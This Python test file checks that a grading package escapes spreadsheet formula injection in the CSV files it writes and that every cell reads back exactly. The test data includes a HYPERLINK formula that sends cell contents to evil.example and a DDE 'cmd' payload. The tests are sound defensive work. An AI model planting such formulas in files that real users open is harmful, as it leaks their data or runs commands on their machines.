"""What we write as CSV: no text of anybody's is a formula to a spreadsheet, and every text reads back to the letter."""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from eprofessionalism.items import Item
from eprofessionalism_graders import cells, forms
from eprofessionalism_graders.cohort import evaluation, tables
from eprofessionalism_graders.cohort.evaluation import Evaluation, Said
from eprofessionalism_graders.roster import COLUMNS, Learner, read_roster

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
BEFORE = [
    "",
    " ",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\x00",
    "\x0b",
    "\xa0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\u202e",
    "'",
    '"',
    "\"'",
    "''",
]

pieces = st.sampled_from([*SIGNS, *BEFORE, ";", ",", "; ", "|", "1", "a", "cmd|'/C calc'!A0", "\ud800", "−"])
hostile = st.lists(st.one_of(pieces, st.text(max_size=3)), max_size=8).map("".join)
"""Texts that are mostly made of what breaks CSV, halves of surrogate pairs included."""

storable = hostile.map(lambda text: text.encode(errors="replace").decode())
"""The same as a file in UTF-8 can hold them."""


ROOT = Path(__file__).parents[2]


UNSEEN = ("BN", "LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
"""Classes of characters that are never seen: controls, joiners, byte order marks, turns of the direction of writing."""


def is_dangerous(cell: str) -> bool:
    """Whether a spreadsheet could take a cell for a formula: written apart from the code, by Unicode's own classes.

    An apostrophe at the beginning is what makes a cell a text; a blank, a double quote or an unseen character is not.
    """
    for char in cell:
        if unicodedata.normalize("NFKC", char)[0] in "=+-@":
            return True
        if not (char.isspace() or char in '"\u061c\u200e\u200f' or unicodedata.bidirectional(char) in UNSEEN):
            return False
    return False


def begins_with_a_break(cell: str) -> bool:
    return cell.startswith(("\t", "\r", "\n", "\0"))


def cells_of(text: str, **dialect) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), **dialect) for cell in row]


def by_any_program(text: str) -> list[str]:
    """The cells as programs find them: parted by commas, or by semicolons or tabs where the machine is set to these,
    heeding quotes, or not.
    """
    found = []
    for delimiter in ";\t":
        found += cells_of(text, delimiter=delimiter)
        found += cells_of(text, delimiter=delimiter, quoting=csv.QUOTE_NONE)
    return found


# ---- One cell --------------------------------------------------------------------------------------------------------


@given(hostile)
@example("'=1")
@example("''-")
@example(";'=1;''=2\n'\t'@")
def test_a_cell_reads_back_to_the_letter(text):
    assert cells.original(cells.neutral(text)) == text


@given(hostile)
def test_no_cell_begins_dangerous(text):
    cell = cells.neutral(text)
    assert not is_dangerous(cell)
    assert not begins_with_a_break(cell)


@given(hostile)
def test_making_a_cell_neutral_only_adds_apostrophes(text):
    cell, place = cells.neutral(text), 0
    for char in cell:
        if place < len(text) and char == text[place]:
            place += 1
        else:
            assert char == "'"
    assert place == len(text)


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", BEFORE)
def test_a_formula_gets_an_apostrophe_before_it(before, sign):
    text = f"{before}{sign}HYPERLINK(1)"
    cell = cells.neutral(text)
    assert cell.startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("parting", [";", "; ", "\n", "\t", "\r\n", "\r", ';"'])
def test_so_does_what_another_program_takes_for_a_cell(parting, sign):
    cell = cells.neutral(f"words{parting}{sign}HYPERLINK(1)")
    assert cell.removeprefix("words").lstrip(";\r\n\t").startswith("'")


@pytest.mark.parametrize(
    "text",
    ["well-known; e-mail a@b.org, 1+1=2", "’tis so", "'t Hooft", '"quoted"', "O’Brien", "", " ", "a, -b", "5 - 3"],
)
def test_other_texts_stay_as_they_are(text):
    assert cells.neutral(text) == cells.original(text) == text


def test_it_takes_time_in_proportion():
    for text in ("; " * 500_000, " " * 1_000_000, "'" * 1_000_000 + "=", ";=" * 500_000, '"; ' * 300_000):
        assert cells.original(cells.neutral(text)) == text


# ---- Whole files -----------------------------------------------------------------------------------------------------


@given(st.lists(st.lists(storable, min_size=3, max_size=3), max_size=5))
def test_rows_read_back_whatever_stands_in_them(rows):
    text = cells.written([("a", "b", "c"), *rows])
    assert [list(row.values()) for row in cells.read(text)] == rows
    assert not any(map(is_dangerous, by_any_program(text)))


numbers = st.one_of(st.none(), st.floats(-1e6, 1e6).map(lambda number: round(number, 6)))


@given(st.lists(st.tuples(st.one_of(st.none(), storable), numbers, st.booleans()), max_size=6))
def test_a_table_reads_back_and_its_numbers_stay_numbers(rows):
    columns = {"answer": "string", "score": "Float64", "late": "boolean"}
    frame = pd.DataFrame(rows, columns=pd.Index(columns), dtype=object).astype(columns)
    text = tables.csv_text(frame)
    read = pd.read_csv(io.BytesIO(text.encode()), dtype=columns, keep_default_na=False, na_values={"score": [""]})
    assert [cells.original(cell) for cell in read["answer"]] == [text or "" for text, _, _ in rows]
    pd.testing.assert_series_equal(read["score"], frame["score"])
    for row, (_, number, _) in zip(list(csv.reader(io.StringIO(text, newline="")))[1:], rows, strict=True):
        assert not is_dangerous(row[0])
        assert (float(row[1]) if row[1] else None) == number


def test_a_number_below_zero_is_no_text():
    frame = pd.DataFrame({"answer": pd.array(["-0.5"], dtype="string"), "score": pd.array([-0.5], dtype="Float64")})
    assert tables.csv_text(frame) == '"answer","score"\n"\'-0.5",-0.5\n'


@pytest.mark.parametrize("length", [tables.LONGEST_CELL - 1, tables.LONGEST_CELL, tables.LONGEST_CELL + 1, 200_000])
def test_a_cut_cell_is_neutral_too(length):
    (_, cell) = cells_of(tables.csv_text(pd.DataFrame({"a": pd.array([";=" * length], dtype="string")})))
    assert len(cell) <= tables.LONGEST_CELL
    assert not any(map(is_dangerous, cell.split(";")))


# ---- The files that we write -----------------------------------------------------------------------------------------

ids = st.text("ab-@_.", min_size=1, max_size=6).filter(lambda text: text.strip("."))
names = storable.map(lambda text: text.replace("\0", "").strip())  # a roster takes no null character
learners = st.lists(
    st.builds(Learner, ids, names, names, names, names), min_size=1, max_size=5, unique_by=lambda one: one.id
)


@given(learners)
def test_forms_csv_gives_back_who_has_which_form(tmp_path_factory, roster):
    path = tmp_path_factory.mktemp("forms") / forms.FORMS_FILE
    given_forms = forms.assign(roster, {})
    text = forms.forms_text(roster, given_forms)
    path.write_bytes(text.encode())
    assert forms.read_forms(path) == given_forms
    rows = list(cells.read(text))
    assert [Learner(**{column: row[column] for column in COLUMNS}) for row in rows] == roster
    assert not any(map(is_dangerous, by_any_program(text)))


@given(learners)
def test_a_roster_that_we_write_is_the_roster_that_we_read(tmp_path_factory, roster):
    path = tmp_path_factory.mktemp("roster") / "roster.csv"
    path.write_bytes(cells.written([COLUMNS, *([getattr(one, name) for name in COLUMNS] for one in roster)]).encode())
    assert read_roster(path) == roster


@given(st.lists(storable, max_size=5))
def test_what_was_said_in_the_survey_is_neutral_and_reads_back(texts):
    item = Item("s-free", "reflection", FORMULA, 0.0, (), survey=True)
    said = Said(1, item, len(texts), (), tuple(texts))
    (text,) = evaluation.files([Evaluation("99-evaluation", "Title", 9, 9, (said,))]).values()
    rows = list(cells.read(text))
    assert [row["answer"] for row in rows] == texts
    assert {row["question"] for row in rows} <= {FORMULA}
    assert not any(map(is_dangerous, by_any_program(text)))


@pytest.mark.parametrize(
    "path", sorted([*ROOT.glob("datasets/*.csv"), *ROOT.glob("docs/**/*.csv")]), ids=lambda path: path.name
)
def test_the_tables_that_come_with_the_course_are_neutral(path):
    found = cells_of(path.read_text(encoding="utf-8"))
    assert len(found) > 10
    assert not any(map(is_dangerous, found))
